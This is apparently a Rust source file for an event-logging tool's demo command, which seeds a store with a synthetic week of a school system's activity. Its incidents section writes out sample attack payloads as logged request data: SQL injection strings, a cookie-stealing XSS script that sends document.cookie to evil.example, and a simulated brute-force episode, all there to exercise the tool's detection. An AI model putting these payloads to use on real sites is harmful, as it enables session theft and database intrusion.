//! `eventlog demo`: fills the configured store with a realistic week of the seeds' EduPro
//! school system, so a new user sees a living dashboard within a minute.
//!
//! Events go through [`Application::ingest`], the same validation, group-commit writer,
//! rollups, hash chain and attack detection as `POST /api/events/batch`. The mix: teachers
//! and admins logging in (some failing), CRUD on students and scores, individual and batch
//! predictions with confidences, model training, admin actions, the licensing portal's
//! platform events (tenants, projects, codes, devices), request events with latencies, a
//! few SQL injection and XSS payloads, one brute-force episode and one burst of errors.
//! `--seed` makes it reproducible.

use std::io::IsTerminal;

use chrono::{DateTime, Duration, Timelike, Utc};
use clap::Args;
use eventlog_server::Application;
use indicatif::{ProgressBar, ProgressStyle};
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use serde_json::{json, Value};

/// `eventlog demo` options.
#[derive(Args)]
pub struct DemoArgs {
    /// Roughly how many events to write.
    #[arg(long, default_value_t = 50_000)]
    pub events: usize,
    /// How many days back the events reach.
    #[arg(long, default_value_t = 7)]
    pub days: u32,
    /// Random seed (the same seed writes the same events).
    #[arg(long, default_value_t = 2025)]
    pub seed: u64,
    /// Write into a store that already holds events (the demo's would mix with them, in the
    /// tamper-evident chain for good).
    #[arg(long)]
    pub into_existing: bool,
}

/// Events per batch handed to the writer.
const BATCH: usize = 5_000;

const TEACHERS: &[&str] = &[
    "guru01", "guru02", "guru03", "guru04", "guru05", "guru06", "guru07", "guru08", "guru09",
    "guru10", "guru11", "guru12", "bu.sari", "pak.budi", "bu.rina", "pak.agus",
];
const ADMINS: &[&str] = &["admin01", "admin02", "kepsek"];
const SUBJECTS: &[&str] = &[
    "Matematika",
    "Bahasa Indonesia",
    "IPA",
    "IPS",
    "Bahasa Inggris",
];
const NAMES: &[&str] = &[
    "Budi Santoso",
    "Siti Aminah",
    "Andi Wijaya",
    "Dewi Lestari",
    "Rizky Pratama",
    "Nur Hidayah",
    "Agus Salim",
    "Putri Ayu",
    "Fajar Nugroho",
    "Maya Sari",
];
const TENANTS: &[(&str, &str)] = &[
    ("sman-1-bandung", "SMAN 1 Bandung"),
    ("smpn-3-bogor", "SMPN 3 Bogor"),
    ("sd-harapan", "SD Harapan Bangsa"),
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 Chrome/126.0 Mobile Safari/537.36",
];
/// Endpoints of EduPro with their typical latency (ms).
const ENDPOINTS: &[(&str, &str, f64)] = &[
    ("GET", "/api/students", 45.0),
    ("GET", "/api/students/{id}", 20.0),
    ("POST", "/api/students", 80.0),
    ("PUT", "/api/students/{id}", 70.0),
    ("GET", "/api/scores", 60.0),
    ("POST", "/api/predictions", 350.0),
    ("GET", "/api/dashboard/stats", 120.0),
    ("GET", "/api/reports/semester", 900.0),
];

struct Gen {
    rng: StdRng,
    start: DateTime<Utc>,
    days: u32,
    seq: u64,
}

impl Gen {
    /// A time in `[start, now)`, mostly in Indonesian school hours (07:00-16:00 WIB,
    /// 00:00-09:00 UTC), a little at any hour.
    fn time(&mut self) -> DateTime<Utc> {
        let now = Utc::now() - Duration::minutes(1);
        let midnight = self
            .start
            .with_hour(0)
            .and_then(|t| t.with_minute(0))
            .and_then(|t| t.with_second(0))
            .unwrap_or(self.start);
        for _ in 0..100 {
            let day = self.rng.gen_range(0..=self.days) as i64;
            let hour = if self.rng.gen_bool(0.97) {
                self.rng.gen_range(0..9)
            } else {
                self.rng.gen_range(0..24)
            };
            let t = midnight
                + Duration::days(day)
                + Duration::hours(hour)
                + Duration::seconds(self.rng.gen_range(0..3600));
            if t >= self.start && t < now {
                return t;
            }
        }
        self.start + (now - self.start) / 2
    }

    fn id(&mut self, prefix: &str) -> String {
        self.seq += 1;
        format!(
            "{prefix}-{:06x}{:04x}",
            self.rng.gen::<u32>() & 0xff_ffff,
            self.seq & 0xffff
        )
    }

    fn ip(&mut self) -> String {
        format!(
            "10.{}.{}.{}",
            self.rng.gen_range(1..4),
            self.rng.gen_range(0..30),
            self.rng.gen_range(2..250)
        )
    }

    fn pick<'a, T>(&mut self, list: &'a [T]) -> &'a T {
        list.choose(&mut self.rng).expect("non-empty list")
    }

    /// A latency around `typical` ms, with a long tail.
    fn latency(&mut self, typical: f64) -> f64 {
        let f: f64 = self.rng.gen_range(0.5..1.5);
        let tail = if self.rng.gen_bool(0.03) {
            self.rng.gen_range(3.0..8.0)
        } else {
            1.0
        };
        ((typical * f * tail) * 10.0).round() / 10.0
    }

    /// One user's session: login (maybe failed), requests and domain events, logout.
    fn session(&mut self, out: &mut Vec<Value>) {
        let admin = self.rng.gen_bool(0.15);
        let user = *self.pick(if admin { ADMINS } else { TEACHERS });
        let user_id = 100
            + TEACHERS
                .iter()
                .chain(ADMINS)
                .position(|u| *u == user)
                .unwrap_or(0);
        let role = if admin { "admin" } else { "teacher" };
        // People work from their usual machine; now and then from a phone elsewhere
        // (which the anomaly detector may notice, as it should).
        let ip = if self.rng.gen_bool(0.97) {
            format!("10.1.{}.{}", user_id / 200, 10 + user_id % 200)
        } else {
            self.ip()
        };
        let agent = AGENTS[user_id % AGENTS.len()];
        let session = self.id("sess");
        // A session lasts under an hour; it must end before now (the future is refused).
        let mut t = self.time().min(Utc::now() - Duration::hours(1));
        if self.rng.gen_bool(0.08) {
            out.push(json!({"event_code": "AUTH-002", "username": user, "ip_address": ip, "user_agent": agent,
                "timestamp": t.to_rfc3339(), "http_method": "POST", "endpoint": "/api/auth/login", "http_status": 401,
                "error_message": "invalid username or password", "metadata": {"error_reason": "bad_password"}}));
            t += Duration::seconds(self.rng.gen_range(5..40));
        }
        let base = json!({"user_id": user_id, "username": user, "user_role": role, "ip_address": ip,
            "user_agent": agent, "session_id": session, "source": "edupro"});
        let with = |extra: Value| {
            let mut e = base.clone();
            if let (Value::Object(e), Value::Object(x)) = (&mut e, extra) {
                e.extend(x);
            }
            e
        };
        out.push(with(json!({"event_code": "AUTH-001", "timestamp": t.to_rfc3339(), "http_method": "POST",
            "endpoint": "/api/auth/login", "http_status": 200, "processing_time_ms": self.latency(90.0)})));
        for _ in 0..self.rng.gen_range(3..14) {
            t += Duration::seconds(self.rng.gen_range(5..240));
            let correlation = self.id("req");
            let &(method, endpoint, typical) = self.pick(ENDPOINTS);
            let status = if self.rng.gen_bool(0.015) {
                500
            } else if self.rng.gen_bool(0.02) {
                404
            } else {
                200
            };
            out.push(with(json!({"event_category": "SYSTEM", "event_type": "API_REQUEST",
                "event_name": format!("{method} {endpoint}"), "http_method": method, "endpoint": endpoint,
                "http_status": status, "processing_time_ms": self.latency(typical), "correlation_id": correlation,
                "timestamp": t.to_rfc3339(), "severity": if status >= 500 { "ERROR" } else { "DEBUG" }})));
            let student = format!("STD-2025-{:03}", self.rng.gen_range(1..400));
            let name = *self.pick(NAMES);
            let domain = match (method, endpoint) {
                ("POST", "/api/students") => {
                    Some(json!({"event_code": "DATA-001", "resource_type": "STUDENT",
                    "resource_id": student, "resource_name": name, "metadata": {"creator": user}}))
                }
                ("PUT", _) => Some(
                    json!({"event_code": "DATA-002", "resource_type": "STUDENT", "resource_id": student,
                    "resource_name": name, "metadata": {"changed_fields": ["alamat", "kelas"], "updater": user}}),
                ),
                ("GET", "/api/scores") if self.rng.gen_bool(0.4) => {
                    Some(json!({"event_code": "DATA-004",
                    "resource_type": "SCORE", "resource_id": student, "metadata": {"subject": *self.pick(SUBJECTS),
                    "score": self.rng.gen_range(55..100), "semester": "Ganjil 2025/2026"}}))
                }
                ("POST", "/api/predictions") => {
                    let confidence: f64 =
                        (self.rng.gen_range(0.55..0.98f64) * 1000.0).round() / 1000.0;
                    Some(if status >= 500 {
                        json!({"event_code": "PRED-003", "resource_type": "STUDENT", "resource_id": student,
                            "error_message": "feature vector incomplete: attendance missing"})
                    } else {
                        json!({"event_code": "PRED-002", "resource_type": "STUDENT", "resource_id": student,
                            "status": "SUCCESS", "processing_time_ms": self.latency(300.0),
                            "response_data": {"prediction_result": if confidence > 0.7 { "LULUS" } else { "PERLU_BIMBINGAN" },
                            "confidence": confidence, "model_version": "rf-2025.06"}})
                    })
                }
                ("GET", "/api/dashboard/stats") => Some(
                    json!({"event_code": "ANLY-001", "metadata": {"dashboard_type": "teacher"}}),
                ),
                ("GET", "/api/reports/semester") => Some(json!({"event_code": "ANLY-002",
                    "metadata": {"report_type": "semester", "record_count": self.rng.gen_range(30..400)}})),
                _ => None,
            };
            if let Some(d) = domain {
                let mut d = with(d);
                d["correlation_id"] = json!(correlation);
                d["timestamp"] = json!((t + Duration::milliseconds(5)).to_rfc3339());
                out.push(d);
            }
        }
        t += Duration::seconds(self.rng.gen_range(30..600));
        out.push(with(
            json!({"event_code": "AUTH-003", "timestamp": t.min(Utc::now()).to_rfc3339(),
            "metadata": {"session_duration": self.rng.gen_range(300..3600)}}),
        ));
    }

    /// Model training, admin actions and the platform events of the licensing portal.
    fn operations(&mut self, out: &mut Vec<Value>) {
        let t = self.time();
        let admin = *self.pick(ADMINS);
        let (tenant, tenant_name) = *self.pick(TENANTS);
        let version = format!("rf-2025.{:02}", self.rng.gen_range(1..12));
        let e = match self.rng.gen_range(0..12) {
            0 => {
                json!({"event_code": "MODEL-001", "metadata": {"training_data_size": 4200, "parameters": {"n_estimators": 300}}})
            }
            1 => {
                json!({"event_code": "MODEL-002", "metadata": {"accuracy": 0.87, "training_time": 412, "model_version": version}})
            }
            2 => {
                json!({"event_code": "MODEL-005", "metadata": {"accuracy": 0.86, "precision": 0.84, "recall": 0.81, "f1_score": 0.82}})
            }
            3 => {
                json!({"event_code": "ADMIN-002", "username": admin, "resource_type": "USER", "resource_id": format!("{}", self.rng.gen_range(100..120)),
                "metadata": {"changed_fields": ["role"], "modifier": admin}})
            }
            4 => {
                json!({"event_code": "ADMIN-006", "username": admin, "metadata": {"maintenance_type": "VACUUM", "duration": 42}})
            }
            5 => {
                json!({"event_code": "TENANT_UPDATED", "username": admin, "tenant_id": tenant, "resource_type": "TENANT",
                "resource_id": tenant, "resource_name": tenant_name, "metadata": {"changed_fields": ["plan"], "actor": admin}})
            }
            6 => {
                let project = format!("prj-{}", self.rng.gen_range(10..99));
                json!({"event_code": "PROJECT_CREATED", "username": admin, "tenant_id": tenant, "resource_type": "PROJECT",
                    "resource_id": project, "resource_name": format!("Ujian Semester {}", self.rng.gen_range(1..3)),
                    "related": {"tenant": tenant, "project": project}})
            }
            7 => json!({"event_code": "CODE_GENERATED", "username": admin, "tenant_id": tenant,
                "related": {"tenant": tenant}, "metadata": {"code_count": self.rng.gen_range(10..200)}}),
            8 => {
                let device = format!("dev-{:04x}", self.rng.gen::<u16>());
                let code = format!("LIC-{:05}", self.rng.gen_range(0..99999));
                json!({"event_code": "DEVICE_ENROLLED", "tenant_id": tenant, "resource_type": "DEVICE", "resource_id": device,
                    "related": {"tenant": tenant, "device": device, "code": code}})
            }
            9 => {
                json!({"event_code": "CODE_REVOKED", "username": admin, "tenant_id": tenant, "resource_type": "CODE",
                "resource_id": format!("LIC-{:05}", self.rng.gen_range(0..99999)), "related": {"tenant": tenant}})
            }
            10 => {
                json!({"event_code": "SYS-009", "metadata": {"backup_type": "daily", "backup_size": "1.2GB", "duration": 93}})
            }
            _ => {
                json!({"event_code": "PRED-005", "username": admin, "metadata": {"total_processed": 380, "success_count": 377, "failed_count": 3}})
            }
        };
        let mut e = e;
        e["timestamp"] = json!(t.to_rfc3339());
        e["source"] = json!("edupro");
        out.push(e);
    }

    /// Injection payloads in requests (detection flags them), a brute-force episode
    /// against `admin`, and a ten-minute burst of errors with a critical health check.
    fn incidents(&mut self, out: &mut Vec<Value>) {
        let attacker = "203.0.113.66";
        let payloads = [
            json!({"search": "1' OR '1'='1' --"}),
            json!({"id": "1 UNION SELECT username, password FROM users"}),
            json!({"comment": "<script>document.location='http://evil.example/?c='+document.cookie</script>"}),
            json!({"name": "<img src=x onerror=alert(1)>"}),
        ];
        for p in payloads.iter().cycle().take(12) {
            let t = self.time();
            out.push(json!({"event_category": "SYSTEM", "event_type": "API_REQUEST", "event_name": "GET /api/students",
                "http_method": "GET", "endpoint": "/api/students", "http_status": 400, "ip_address": attacker,
                "request_data": p, "timestamp": t.to_rfc3339(), "source": "edupro", "processing_time_ms": 12.0}));
        }
        // Brute force: 40 failed logins for `admin` from one address within four minutes.
        let t0 = self.start + Duration::days((self.days as i64 - 2).max(0)) + Duration::hours(2);
        for i in 0..40 {
            out.push(
                json!({"event_code": "AUTH-002", "username": "admin", "ip_address": "198.51.100.23",
                "timestamp": (t0 + Duration::seconds(i * 6)).to_rfc3339(), "http_method": "POST",
                "endpoint": "/api/auth/login", "http_status": 401, "source": "edupro"}),
            );
        }
        out.push(json!({"event_code": "AUTH-005", "username": "admin", "ip_address": "198.51.100.23",
            "timestamp": (t0 + Duration::seconds(241)).to_rfc3339(), "metadata": {"attempt_count": 40}}));
        // A burst of errors yesterday: the database went away for ten minutes.
        let t1 = (Utc::now() - Duration::days(1))
            .with_second(0)
            .unwrap_or_else(Utc::now);
        out.push(
            json!({"event_code": "SYS-004", "timestamp": t1.to_rfc3339(), "source": "edupro",
            "metadata": {"database_name": "edupro", "disconnect_reason": "connection reset"}}),
        );
        for i in 0..150 {
            let t = t1 + Duration::seconds(i * 4);
            out.push(json!({"event_category": "SYSTEM", "event_type": "API_ERROR", "event_name": "GET /api/students",
                "http_method": "GET", "endpoint": "/api/students", "http_status": 503, "severity": "ERROR",
                "processing_time_ms": self.latency(2500.0), "error_message": "database unavailable",
                "timestamp": t.to_rfc3339(), "source": "edupro", "correlation_id": self.id("req")}));
        }
        out.push(json!({"event_code": "SYS-012", "timestamp": (t1 + Duration::minutes(3)).to_rfc3339(), "source": "edupro",
            "metadata": {"component": "database", "check_type": "connect", "error": "timeout after 5s"}}));
        out.push(json!({"event_code": "SYS-003", "timestamp": (t1 + Duration::minutes(10)).to_rfc3339(), "source": "edupro"}));
        // The licensing portal's tenants, created at the start of the week.
        for (i, (tenant, name)) in TENANTS.iter().enumerate() {
            out.push(
                json!({"event_code": "TENANT_CREATED", "username": "admin01", "tenant_id": tenant,
                "resource_type": "TENANT", "resource_id": tenant, "resource_name": name,
                "metadata": {"tenant_name": name, "actor": "admin01"},
                "timestamp": (self.start + Duration::hours(1 + i as i64)).to_rfc3339()}),
            );
        }
    }
}

/// Writes the demo week through `app` and returns how many events were stored.
/// The most events one `demo` run writes: a demo, not a load test (eventlog-loadgen is).
const MAX_EVENTS: usize = 10_000_000;

impl DemoArgs {
    /// Refuses arguments the run could not honour, before anything is created.
    /// `max_past_days`: the validation bound on old timestamps (0: none).
    pub fn check(&self, max_past_days: u32) -> anyhow::Result<()> {
        anyhow::ensure!(self.days >= 1, "--days must be at least 1");
        anyhow::ensure!(
            max_past_days == 0 || self.days < max_past_days,
            "--days {} reaches past the {max_past_days}-day bound on event timestamps \
             ([validation] max_past_days); use fewer days",
            self.days
        );
        anyhow::ensure!(
            (1..=MAX_EVENTS).contains(&self.events),
            "--events must be 1 to {MAX_EVENTS}"
        );
        Ok(())
    }
}

pub async fn run(app: &Application, args: &DemoArgs) -> anyhow::Result<u64> {
    let now = Utc::now();
    let mut g = Gen {
        rng: StdRng::seed_from_u64(args.seed),
        start: (now - Duration::days(args.days as i64))
            .with_minute(0)
            .unwrap_or(now),
        days: args.days,
        seq: 0,
    };
    let bar = if std::io::stderr().is_terminal() {
        ProgressBar::new(args.events as u64)
    } else {
        ProgressBar::hidden()
    };
    bar.set_style(
        ProgressStyle::with_template("{bar:40} {pos}/{len} events  {per_sec}  eta {eta}")
            .expect("valid template"),
    );
    let mut pending = Vec::with_capacity(BATCH + 64);
    g.incidents(&mut pending);
    let mut written = 0u64;
    let mut made = pending.len();
    while made < args.events || !pending.is_empty() {
        while made < args.events && pending.len() < BATCH {
            let before = pending.len();
            if g.rng.gen_bool(0.9) {
                g.session(&mut pending);
            } else {
                g.operations(&mut pending);
            }
            made += pending.len() - before;
        }
        let summary = app.ingest(&pending).await.map_err(|e| {
            let body = e.body();
            match body.details.first() {
                Some(d) => anyhow::anyhow!(
                    "{} (first: {}: {})",
                    body.message,
                    d.field.as_deref().unwrap_or("event"),
                    d.message
                ),
                None => anyhow::anyhow!("{}", body.message),
            }
        })?;
        written += summary.accepted as u64;
        bar.inc(pending.len() as u64);
        pending.clear();
    }
    bar.finish_and_clear();
    Ok(written)
}
